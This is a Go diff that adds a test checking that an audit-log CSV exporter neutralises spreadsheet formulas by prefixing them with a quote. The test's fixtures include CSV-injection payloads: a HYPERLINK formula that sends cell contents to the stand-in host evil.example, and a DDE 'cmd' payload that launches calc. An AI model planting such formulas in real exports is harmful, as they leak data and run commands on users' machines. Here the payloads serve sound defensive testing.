@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"strings"
 	"testing"
@@ -207,5 +208,40 @@ func TestJSONDocuments(t *testing.T) {
 			t.Fatal(err)
 		}
 		golden(t, name, b.String())
+	}
+}
+
+// A name or description from the tenant that a spreadsheet would read as
+// a formula is written as text: its cell begins with a quote (OWASP's CSV
+// injection advice), and nothing else of the row changes.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	entries := []audit.Entry{{Time: at, RunID: 1, CloudID: "g1", Action: "update", DN: "CN=x,OU=Cloud,DC=contoso,DC=com", Outcome: "applied",
+		Name:    `=HYPERLINK("http://evil.example/?"&A1,"open")`,
+		Changes: []reconcile.AttrChange{{Name: "description", New: []string{"+cmd|' /C calc'!A0"}}}}}
+	for _, name := range []string{"@SUM(1+1)", "-2+3", "\t=1", "\r=1"} {
+		e := entries[0]
+		e.Name = name
+		entries = append(entries, e)
+	}
+	var b bytes.Buffer
+	if err := printAuditCSV(&b, entries); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s: %q would be read as a formula", auditColumns[i], cell)
+			}
+		}
+		if !strings.HasPrefix(row[3], "'") {
+			t.Errorf("name %q is not neutralised", row[3])
+		}
+	}
+	if rows[1][5] != "CN=x,OU=Cloud,DC=contoso,DC=com" || rows[1][1] != "1" {
+		t.Errorf("other cells changed: %q", rows[1])
 	}
 }
